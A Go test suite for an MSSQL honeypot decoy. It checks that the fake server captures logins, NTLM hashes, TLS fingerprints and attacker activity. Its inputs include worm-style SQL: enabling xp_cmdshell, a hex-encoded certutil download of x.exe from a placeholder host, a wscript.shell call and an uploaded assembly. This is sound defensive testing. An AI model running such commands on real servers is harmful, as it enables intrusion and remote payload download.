package mssql_test

import (
	"context"
	"database/sql"
	"errors"
	"net"
	"net/url"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	mssqldb "github.com/microsoft/go-mssqldb"
	_ "github.com/microsoft/go-mssqldb/integratedauth/ntlm" // the authenticator that its option names
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"decnet/decoy/mssql"
	"decnet/decoy/trap"
	"decnet/decoy/traptest"
)

func newBench(t *testing.T, config trap.Config, id trap.Identity) *traptest.Bench {
	t.Helper()
	return traptest.New(t, mssql.New, traptest.Options{Service: "mssql", Config: config, Identity: id})
}

// open opens a connection of Microsoft's own client with these options.
func open(t *testing.T, b *traptest.Bench, user, password, options string) *sql.Conn {
	t.Helper()
	c, err := try(t, b, user, password, options)
	require.NoError(t, err)
	return c
}

func try(t *testing.T, b *traptest.Bench, user, password, options string) (*sql.Conn, error) {
	t.Helper()
	u := url.URL{Scheme: "sqlserver", User: url.UserPassword(user, password), Host: b.Listen(1433), RawQuery: "TrustServerCertificate=true&app+name=probe&" + options}
	db, err := sql.Open("sqlserver", u.String())
	require.NoError(t, err)
	db.SetMaxOpenConns(1)
	t.Cleanup(func() { assert.NoError(t, db.Close()) })
	c, err := db.Conn(t.Context())
	if err == nil {
		t.Cleanup(func() { _ = c.Close() })
	}
	return c, err
}

// Whatever the client wants of encryption, it comes as far as the refusal, and
// its password is there.
func TestClients_MicrosoftsOwn(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct {
		options, version string
		hello            bool
	}{
		"for the login":         {"encrypt=false", "15.0.2000.5", true},
		"for everything":        {"encrypt=true", "14.0.1000.169", true},
		"none":                  {"encrypt=disable", "13.0.1601.5", false},
		"by a newer server":     {"encrypt=true", "16.0.1000.6", true},
		"small packets":         {"encrypt=false&packet+size=2048", "16.0.1000.6", true},
		"small packets, hidden": {"encrypt=true&packet+size=2048", "16.0.1000.6", true},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			b := newBench(t, trap.Config{"version": test.version}, trap.Identity{})
			_, err := try(t, b, "sa", "Pä$$'--", test.options)
			var refused mssqldb.Error
			require.ErrorAs(t, err, &refused)
			assert.Equal(t, int32(18456), refused.Number)
			assert.Equal(t, uint8(14), refused.Class)
			assert.Equal(t, "login error: Login failed for user 'sa'.", refused.Message)
			assert.Equal(t, "srv-web-07", refused.ServerName)
			auth := traptest.Fields(b.Wait("auth"))
			assert.Equal(t, "sa", auth["username"])
			assert.Equal(t, "Pä$$'--", auth["password"])
			assert.Equal(t, "probe", auth["app"])
			assert.Equal(t, "go-mssqldb", auth["library"])
			assert.NotEmpty(t, auth["client_pid"])
			var seen bool
			for _, e := range b.Events() {
				if e.Type == "tls_client_hello" {
					seen = true
					assert.NotEmpty(t, traptest.Fields(e)["ja4"])
				}
			}
			assert.Equal(t, test.hello, seen)
		})
	}
}

// TDS 8.0 has TLS around everything, and only the releases that know it answer.
func TestClients_TLSFromTheFirstByte(t *testing.T) {
	t.Parallel()
	keys := t.TempDir()
	b := newBench(t, trap.Config{"version": "16.0.1000.6"}, trap.Identity{Keys: keys})
	_, err := try(t, b, "sa", "x", "encrypt=strict")
	require.ErrorContains(t, err, "certificate", "it can't be told to trust")
	files, err := filepath.Glob(filepath.Join(keys, "*.pem"))
	require.NoError(t, err)
	require.Len(t, files, 1)
	_, err = try(t, b, "sa", "pw", "encrypt=strict&hostNameInCertificate=SSL_Self_Signed_Fallback&certificate="+url.QueryEscape(files[0]))
	assert.Equal(t, int32(18456), number(t, err))
	assert.Equal(t, "tds/8.0", traptest.Fields(b.Wait("tls_client_hello"))["alpn"])
	assert.Equal(t, "pw", traptest.Fields(b.Wait("auth"))["password"])

	old := newBench(t, trap.Config{"version": "15.0.2000.5"}, trap.Identity{})
	_, err = try(t, old, "sa", "x", "encrypt=strict")
	require.Error(t, err)
	assert.NotEmpty(t, traptest.Fields(old.Wait("tls_client_hello"))["ja3"])
	assert.Equal(t, "0x16", traptest.Fields(old.Wait("unknown_packet"))["pkt_type"])
}

func TestClients_NTLM(t *testing.T) {
	t.Parallel()
	b := newBench(t, nil, trap.Identity{System: "windows"})
	_, err := try(t, b, `CORP\bob`, "Winter2026", "authenticator=ntlm")
	var refused mssqldb.Error
	require.ErrorAs(t, err, &refused)
	assert.Equal(t, int32(18452), refused.Number)
	auth := traptest.Fields(b.Wait("auth"))
	assert.Equal(t, "bob", auth["username"])
	assert.Equal(t, "CORP", auth["domain"])
	assert.Equal(t, "5600", auth["hashcat_mode"])
	assert.Regexp(t, "^bob::CORP:[0-9a-f]{16}:[0-9a-f]{32}:[0-9a-f]+$", auth["hashcat"])
	assert.NotContains(t, auth, "password")
}

func scalar(t *testing.T, c *sql.Conn, query string, args ...any) any {
	t.Helper()
	var v any
	require.NoError(t, c.QueryRowContext(t.Context(), query, args...).Scan(&v))
	return v
}

func number(t *testing.T, err error) int32 {
	t.Helper()
	var e mssqldb.Error
	require.ErrorAs(t, err, &e)
	return e.Number
}

func windows(t *testing.T) *traptest.Bench {
	t.Helper()
	return newBench(t, trap.Config{"password": "letmein", "version": "15.0.2000.5"}, trap.Identity{System: "windows", Hostname: "SQL01"})
}

// A login that the settings let in finds a server, and all that it says is
// recorded.
func TestClients_Queries(t *testing.T) {
	t.Parallel()
	b := windows(t)
	c := open(t, b, "sa", "letmein", "database=msdb")
	version := scalar(t, c, "select @@version")
	assert.Contains(t, version, "Microsoft SQL Server 2019 (RTM) - 15.0.2000.5 (X64)")
	assert.Contains(t, version, "Windows Server 2019 Standard 10.0 <X64> (Build 17763: )")
	for query, want := range map[string]any{
		"SELECT 1": int64(1), "select 2 + 3": int64(5), "SELECT system_user": "sa", "select DB_NAME()": "msdb",
		"select is_srvrolemember('sysadmin')": int64(1), "SELECT 'a''b' + N'c' -- comment": "a'bc",
		"select cast(0x68656c6c6f as varchar(8000))": "hello", "SELECT CHAR(65)+char(66)": "AB",
		"select count(*) from master.dbo.sysobjects where xtype='X' and name='xp_cmdshell'": int64(1),
		"select value_in_use from sys.configurations where name = 'xp_cmdshell'":            int64(0),
		"select top 1 name from master..sysdatabases":                                       "master",
		"select null": nil, "select convert(varchar(128), SERVERPROPERTY('ProductVersion'))": "15.0.2000.5",
	} {
		assert.Equal(t, want, scalar(t, c, query), query)
	}
	assert.Equal(t, "x;drop", scalar(t, c, "select @p1", "x;drop"), "with an argument, as a call")
	for query, want := range map[string]int32{
		"select * from users": 208, "exec nothing_like_it": 2812, "select password": 207, "exec master..xp_cmdshell 'whoami'": 15281,
		"use nowhere": 911, "exec sp_configure 'xp_cmdshell', 1": 15123, "&": 102, "insert into t values (1)": 208,
	} {
		_, err := c.ExecContext(t.Context(), query)
		assert.Equal(t, want, number(t, err), query)
	}
	assert.Equal(t, int64(1), scalar(t, c, "select 1"), "and the session goes on")
	var queries []string
	for _, e := range b.WaitN("query", 20) {
		queries = append(queries, traptest.Fields(e)["query"])
	}
	assert.Contains(t, queries, "select @@version")
	assert.Contains(t, queries, "select @p1")
}

// The way of the worms, from the options to the command and its output.
func TestClients_ShellOfAWorm(t *testing.T) {
	t.Parallel()
	b := windows(t)
	c := open(t, b, "sa", "letmein", "")
	_, err := c.ExecContext(t.Context(), `EXEC sp_configure 'show advanced options',1;RECONFIGURE WITH OVERRIDE;
exec SP_CONFIGURE 'xp_cmdshell',1 reconfigure exec sp_configure 'Ole Automation Procedures', 1 RECONFIGURE`)
	require.NoError(t, err)
	assert.Equal(t, `nt service\mssqlserver`, scalar(t, c, "xp_cmdshell 'whoami'"))
	assert.Equal(t, `tick`, scalar(t, c, `declare @c varchar(99) set @c = 'echo' + char(32) + 'tick' exec master.dbo.xp_cmdshell @c`))
	_, err = c.ExecContext(t.Context(), `DECLARE @s varchar(8000)
SET @s=0x657865632078705f636d647368656c6c202763657274757574696c202d75726c6361636865202d6620687474703a2f2f3139322e302e322e392f782e65786520782e65786527
EXEC(@s)`)
	require.NoError(t, err)
	_, err = c.ExecContext(t.Context(), `declare @o int exec sp_oacreate 'wscript.shell',@o out exec sp_oamethod @o,'run',null,'cmd /c ftp -s:a'`)
	require.NoError(t, err)
	var commands []string
	for _, e := range b.WaitN("command", 4) {
		commands = append(commands, traptest.Fields(e)["command"])
	}
	assert.Equal(t, []string{"whoami", "echo tick", "certuutil -urlcache -f http://192.0.2.9/x.exe x.exe", "cmd /c ftp -s:a"}, commands)
	assert.Equal(t, "http://192.0.2.9/x.exe", traptest.Fields(b.Wait("file_download"))["url"])
}

func TestClients_ProgramsGoIntoTheQuarantine(t *testing.T) {
	t.Parallel()
	b := windows(t)
	c := open(t, b, "sa", "letmein", "encrypt=true")
	_, err := c.ExecContext(t.Context(), "CREATE ASSEMBLY evil FROM 0x4D5A"+strings.Repeat("90", 400)+" WITH PERMISSION_SET = UNSAFE")
	require.NoError(t, err)
	up := traptest.Fields(b.Wait("file_upload"))
	assert.Equal(t, "evil", up["filename"])
	assert.Equal(t, "402", up["size"])

	_, err = c.ExecContext(t.Context(), "CREATE ASSEMBLY big FROM 0x4D5A"+strings.Repeat("90", 40000))
	require.NoError(t, err)
	up = traptest.Fields(b.WaitN("file_upload", 2)[1])
	assert.Equal(t, "batch.sql", up["filename"], "what is not held as a whole is kept as it came")
	assert.Equal(t, "true", up["kept"])
}

func TestClients_WhoIsLetIn(t *testing.T) {
	t.Parallel()
	b := newBench(t, trap.Config{"password": "pw", "username": "app"}, trap.Identity{})
	for _, test := range []struct{ user, password string }{{"sa", "pw"}, {"app", "wrong"}, {"app", ""}} {
		_, err := try(t, b, test.user, test.password, "")
		assert.Equal(t, int32(18456), number(t, err), test)
	}
	_, err := try(t, b, "app", "pw", "database=nowhere")
	assert.Equal(t, int32(18456), number(t, err))
	var all mssqldb.Error
	require.ErrorAs(t, err, &all)
	assert.Equal(t, int32(4060), all.All[0].Number)
	open(t, b, "APP", "pw", "")
}

// FreeTDS, where it is installed: it speaks OpenSSL or GnuTLS, and old versions
// of the protocol.
func TestClients_FreeTDS(t *testing.T) {
	t.Parallel()
	path, err := exec.LookPath("tsql")
	if err != nil {
		t.Skip("tsql is not installed (Debian: freetds-bin)")
	}
	for _, version := range []string{"7.0", "7.1", "7.2", "7.3", "7.4"} {
		t.Run(version, func(t *testing.T) {
			t.Parallel()
			b := windows(t)
			run := func(password string) string {
				host, port, err := net.SplitHostPort(b.Listen(1433))
				require.NoError(t, err)
				cmd := exec.CommandContext(t.Context(), path, "-H", host, "-p", port, "-U", "sa", "-P", password)
				cmd.Env = []string{"TDSVER=" + version}
				cmd.Stdin = strings.NewReader("select 'it is ' + @@servername\ngo\nexec xp_cmdshell 'x'\ngo\nquit\n")
				out, err := cmd.CombinedOutput()
				var exit *exec.ExitError
				require.True(t, err == nil || errors.As(err, &exit) || errors.Is(err, context.Canceled), err)
				return string(out)
			}
			assert.Contains(t, run("guess"), "Msg 18456 (severity 14, state 1) from SQL01 Line 1:\n\t\"Login failed for user 'sa'.\"")
			out := run("letmein")
			assert.Contains(t, out, "it is SQL01")
			assert.Contains(t, out, "Msg 15281 (severity 16, state 1)")
			assert.Equal(t, "guess", traptest.Fields(b.Wait("auth"))["password"])
		})
	}
}
